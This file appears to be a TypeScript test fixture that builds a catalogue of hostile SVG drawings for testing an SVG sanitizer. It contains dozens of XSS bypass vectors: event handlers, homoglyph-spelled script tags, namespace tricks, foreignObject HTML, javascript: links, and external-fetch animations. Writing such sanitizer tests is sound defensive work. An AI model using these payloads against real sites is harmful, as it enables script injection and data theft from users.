import { OUT, svg } from '../hostile-svgs.ts';

const HTML = 'xmlns="http://www.w3.org/1999/xhtml"';
const MATH = 'xmlns="http://www.w3.org/1998/Math/MathML"';

const HANDLERS =
  `load begin end repeat activate focus focusin focusout blur zoom scroll scrollend resize unload beforeunload abort
  error click dblclick auxclick contextmenu mousedown mouseup mouseover mouseout mousemove mouseenter mouseleave wheel
  pointerdown pointerup pointermove pointerover pointerrawupdate gotpointercapture touchstart touchend keydown keypress keyup
  input change toggle beforetoggle copy cut paste drag dragstart drop animationstart animationend animationiteration
  animationcancel transitionrun transitionend transitionstart transitioncancel hashchange message pageshow popstate storage
  securitypolicyviolation selectstart selectionchange slotchange fullscreenchange beforematch contentvisibilityautostatechange`
    .split(/\s+/)
    .map((event) => `on${event}="alert(1)"`)
    .join(' ');

/** Drawings that bring along elements and attributes which run, fetch or embed. */
export const HOSTILE_ELEMENTS: Readonly<Record<string, string>> = {
  'every handler on the root': svg('', HANDLERS),
  'every handler on a shape': svg(`<rect width="40" height="40" opacity="0" tabindex="0" autofocus="" ${HANDLERS}/>`),
  'every handler on an image': svg(`<image href="#x" width="9" height="9" ${HANDLERS}/>`),
  'every handler on what is animated by a sheet': svg(
    `<style>@keyframes k{to{opacity:.5}}#r{animation:k 1ms 3;transition:all 1ms}</style><rect id="r" width="9" height="9" ${HANDLERS}/>`,
  ),
  'every handler on a style and a use': svg(`<style ${HANDLERS}>a{b:c}</style><use href="#kept" ${HANDLERS}/>`),
  'handlers in prefixes': svg(
    '<g xlink:onload="alert(1)" xml:onload="alert(1)" xmlns:on="urn:on" on:load="alert(1)" on:click="alert(1)"/>',
  ),
  'handlers spelled with other letters': svg(
    '<g оnload="alert(1)" onlоad="alert(1)" ｏｎｌｏａｄ="alert(1)" onload\u0301="alert(1)" _onload="alert(1)" on-load="alert(1)"/>',
  ),
  'a handler broken over lines': svg('<g onload\n=\r\n"alert(1)"\tonclick\t=\t\'alert(1)\'/>'),
  'handlers without a value to speak of': svg('<g onload="" onclick=" " onerror="&#10;"/>'),
  'a script spelled with a long s': svg('<ſcript>alert(1)</ſcript>'),
  'a script spelled with a dotless i': svg('<scrıpt>alert(1)</scrıpt><SCRİPT>alert(1)</SCRİPT>'),
  'a script spelled in Cyrillic': svg('<ѕсriрt>alert(1)</ѕсriрt>'),
  'a script spelled in wide letters': svg('<ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ>'),
  'a group with a mark of byte order in its name': svg(
    '<g\ufeff onload="alert(1)"/><script\ufeff>alert(1)</script\ufeff>',
  ),
  'a script with a letter more': svg(
    '<scripts>alert(1)</scripts><script_>alert(1)</script_><script.>alert(1)</script.>',
  ),
  'a script of a module': svg(`<script type="module" crossorigin="anonymous">import "${OUT}.js";alert(1)</script>`),
  'a script of a map of imports': svg(`<script type="importmap">{"imports":{"a":"${OUT}.js"}}</script>`),
  'a script of rules of speculation': svg(
    `<script type="speculationrules">{"prefetch":[{"urls":["${OUT}"]}]}</script>`,
  ),
  'a script of another type': svg(
    '<script type="text/vbscript">msgbox 1</script><script type="application/ecmascript">alert(1)</script>',
  ),
  'a script in a switch': svg(
    '<switch><script>alert(1)</script><g systemLanguage="en"><script>alert(1)</script></g></switch>',
  ),
  'a script in a marker that is used': svg(
    '<marker id="m"><script>alert(1)</script></marker><path d="M0 0L9 9" marker-end="url(#m)"/>',
  ),
  'a script in what is repeated': svg(
    '<g id="s"><script>alert(1)</script><rect width="9" height="9" onload="alert(1)"/></g><use href="#s"/>',
  ),
  'a script in a gradient': svg(
    '<linearGradient id="l"><stop><script>alert(1)</script></stop></linearGradient><rect width="9" height="9" fill="url(#l)"/>',
  ),
  'a script in a filter': svg(
    '<filter id="f"><feFlood><script>alert(1)</script></feFlood></filter><rect width="9" height="9" filter="url(#f)"/>',
  ),
  'a script in an image': svg('<image><script>alert(1)</script></image>'),
  'a script in a drawing in a drawing': svg('<svg><svg onload="alert(1)"><script>alert(1)</script></svg></svg>'),
  'a script in a namespace of none': svg(
    '<g xmlns=""><script xmlns="http://www.w3.org/2000/svg">alert(1)</script></g>',
  ),
  'a script in a namespace spelled in references': svg(
    '<x:script xmlns:x="http&#58;//www.w3.org/2000/svg">alert(1)</x:script>',
  ),
  'a script in a namespace with a blank': svg('<x:script xmlns:x="http://www.w3.org/2000/svg ">alert(1)</x:script>'),
  'a script of HTML in a namespace in capitals': svg(
    '<x:script xmlns:x="HTTP://WWW.W3.ORG/1999/XHTML">alert(1)</x:script>',
  ),
  'a script of XBL': svg(
    '<b:xbl xmlns:b="http://www.w3.org/ns/xbl"><b:binding><b:script>alert(1)</b:script></b:binding></b:xbl>',
  ),
  'a script of XSLT': svg(
    '<t:stylesheet xmlns:t="http://www.w3.org/1999/XSL/Transform"><t:template match="/"><script>alert(1)</script></t:template></t:stylesheet>',
  ),
  'a script of a time element': svg(
    '<t:set xmlns:t="urn:schemas-microsoft-com:time" attributeName="innerHTML" to="&lt;script>alert(1)&lt;/script>"/>',
  ),
  'a listener of XML events': svg(
    '<e:listener xmlns:e="http://www.w3.org/2001/xml-events" event="load" handler="#h"/><g e:event="load" xmlns:e="http://www.w3.org/2001/xml-events"/>',
  ),
  'foreign HTML without a namespace': svg(
    '<foreignObject width="40" height="40"><img src="x" onerror="alert(1)"/></foreignObject>',
  ),
  'foreign HTML in capitals': svg(
    `<FOREIGNOBJECT width="40" height="40"><img ${HTML} src="x" onerror="alert(1)"/></FOREIGNOBJECT>`,
  ),
  'foreign HTML in a pattern': svg(
    `<pattern id="p" width="9" height="9"><foreignObject width="9" height="9"><script ${HTML}>alert(1)</script></foreignObject></pattern><rect width="9" height="9" fill="url(#p)"/>`,
  ),
  'foreign HTML in a switch': svg(
    `<switch><foreignObject requiredExtensions="http://www.w3.org/1999/xhtml" width="9" height="9"><script ${HTML}>alert(1)</script></foreignObject></switch>`,
  ),
  'foreign HTML in a clip path': svg(
    `<clipPath id="c"><foreignObject><iframe ${HTML} srcdoc="&lt;script>alert(1)&lt;/script>"/></foreignObject></clipPath>`,
  ),
  'a foreign object inside a foreign one': svg(
    `<foreignObject width="9" height="9"><svg><foreignObject width="9" height="9"><script ${HTML}>alert(1)</script></foreignObject></svg></foreignObject>`,
  ),
  'a page that begins anew': svg(
    `<html ${HTML}><head><base href="http://outside.test/"/></head><body onload="alert(1)"/></html>`,
  ),
  'every element of HTML that fetches': svg(
    [
      'embed',
      'object',
      'applet',
      'frame',
      'portal',
      'fencedframe',
      'audio',
      'source',
      'track',
      'input',
      'bgsound',
      'image',
    ]
      .map(
        (name) =>
          `<${name} ${HTML} src="${OUT}" data="${OUT}" srcset="${OUT} 1x" code="${OUT}" type="image" onerror="alert(1)"/>`,
      )
      .join(''),
  ),
  'every link of HTML': svg(
    [
      'stylesheet',
      'preload',
      'prefetch',
      'modulepreload',
      'icon',
      'manifest',
      'dns-prefetch',
      'preconnect',
      'prerender',
      'import',
    ]
      .map((rel) => `<link ${HTML} rel="${rel}" href="${OUT}" as="script"/>`)
      .join(''),
  ),
  'elements of HTML that open and scroll': svg(
    `<details ${HTML} open="" ontoggle="alert(1)">x</details><marquee ${HTML} onstart="alert(1)">x</marquee>`,
  ),
  'a template with a shadow': svg(
    `<template ${HTML} shadowrootmode="open"><script>alert(1)</script><slot onslotchange="alert(1)"/></template>`,
  ),
  'a background of HTML': svg(`<table ${HTML} background="${OUT}.png"><tr><td background="${OUT}.png"/></tr></table>`),
  'a policy and a cookie': svg(
    `<meta ${HTML} http-equiv="Set-Cookie" content="a=b"/><meta ${HTML} name="referrer" content="unsafe-url"/>`,
  ),
  'a formula that links': svg(
    `<math ${MATH} href="javascript:alert(1)"><maction actiontype="statusline#${OUT}" xlink:href="javascript:alert(1)">x</maction></math>`,
  ),
  'a formula with a page inside': svg(
    `<math ${MATH}><annotation-xml encoding="text/html"><img ${HTML} src="x" onerror="alert(1)"/></annotation-xml></math>`,
  ),
  'an animation of a fill': svg(
    `<rect width="9" height="9"><animate attributeName="fill" values="url(${OUT}.svg#a);red" dur="1s"/></rect>`,
  ),
  'an animation of a style': svg(
    `<rect width="9" height="9"><set attributeName="style" to="fill:url(${OUT}.svg#a)"/></rect>`,
  ),
  'an animation of a use': svg(
    `<use href="#kept"><animate attributeName="href" values="#kept;${OUT}.svg#a;data:image/svg+xml,x" dur="1s"/></use>`,
  ),
  'an animation of a filter': svg(
    `<filter id="f"><feImage><set attributeName="href" to="${OUT}.png"/></feImage></filter><rect width="9" height="9" filter="url(#f)"/>`,
  ),
  'an animation of a handler by a class': svg(
    '<set attributeName="class" to="x" onbegin="alert(1)"/><animateTransform attributeName="transform" onbegin="alert(1)" dur="1s"/>',
  ),
  'an animation by another namespace': svg(
    '<a:animate xmlns:a="http://www.w3.org/2000/svg" attributeName="x" dur="1s" onbegin="alert(1)"/>',
  ),
  'an animation in colours': svg(
    '<animateColor attributeName="fill" onbegin="alert(1)" dur="1s"/><ANIMATE attributeName="fill" onbegin="alert(1)" dur="1s"/>',
  ),
  'an animation that waits for a key': svg(
    '<set attributeName="x" begin="accessKey(a);click;kept.click" to="1" onbegin="alert(1)" onend="alert(1)"/>',
  ),
  'media of SVG Tiny': svg(
    `<audio xlink:href="${OUT}.mp3"/><video xlink:href="${OUT}.mp4"/><animation xlink:href="${OUT}.svg"/><prefetch xlink:href="${OUT}"/>`,
  ),
  'media of SVG 2': svg(
    `<iframe src="${OUT}"/><video src="${OUT}.mp4" autoplay=""/><canvas/><audio src="${OUT}.mp3"/><embed src="${OUT}"/><object data="${OUT}"/>`,
  ),
  'paints of SVG 2': svg(
    `<hatch href="${OUT}.svg#h"/><mesh href="${OUT}.svg#m"/><solidcolor/><unknown onload="alert(1)"><script>alert(1)</script></unknown>`,
  ),
  'fonts of SVG': svg(
    `<font><font-face font-family="F"><font-face-src><font-face-uri xlink:href="${OUT}.svg#F"/></font-face-src></font-face><glyph unicode="a"><script>alert(1)</script></glyph></font>`,
  ),
  'glyphs of elsewhere': svg(
    `<altGlyphDef id="g"><glyphRef xlink:href="${OUT}.svg#g"/></altGlyphDef><text><altGlyph xlink:href="${OUT}.svg#g">x</altGlyph></text>`,
  ),
  'a view and a place to jump to': svg(
    '<view id="v" viewBox="0 0 1 1" onload="alert(1)"/><a href="#v" onclick="alert(1)"><text y="9">x</text></a>',
  ),
  'data for another program': svg(
    `<metadata><x:xmpmeta xmlns:x="adobe:ns:meta/"><script>alert(1)</script><image href="${OUT}.png"/></x:xmpmeta></metadata>`,
  ),
  'a prefix of xlink that is something else': svg(
    `<g xmlns:xlink="urn:none"><use xlink:href="${OUT}.svg#a"/><image xlink:href="${OUT}.png"/></g>`,
  ),
  'an xlink of another prefix': svg(
    `<image xmlns:l="http://www.w3.org/1999/xlink" l:href="${OUT}.png" width="9" height="9"/><l:simple xmlns:l="http://www.w3.org/1999/xlink" l:href="${OUT}"/>`,
  ),
  'two addresses of which one is local': svg(
    `<use href="#kept" xlink:href="${OUT}.svg#a"/><use href="${OUT}.svg#a" xlink:href="#kept"/><image href="#kept" xlink:href="${OUT}.png"/>`,
  ),
  'a base on every element': svg(
    '<g xml:base="http://outside.test/"><image xml:base="http://outside.test/" href="x.png"/><use href="#kept" xml:base="javascript:"/></g>',
  ),
  'names of the prototype': svg(
    '<g __proto__="x" constructor="y" toString="z" valueOf="z" hasOwnProperty="z"/><constructor/><__proto__/><toString/>',
  ),
  'parts that repeat themselves': svg(
    '<g id="a"><script>alert(1)</script><use href="#b"/></g><g id="b"><use href="#a"/><use href="#b"/></g><use id="c" href="#c"/>',
  ),
  'an id that covers the document': svg(
    '<g id="body"/><g id="cookie"/><g id="__proto__"/><use href="#__proto__"/><use href="#constructor"/>',
  ),
};
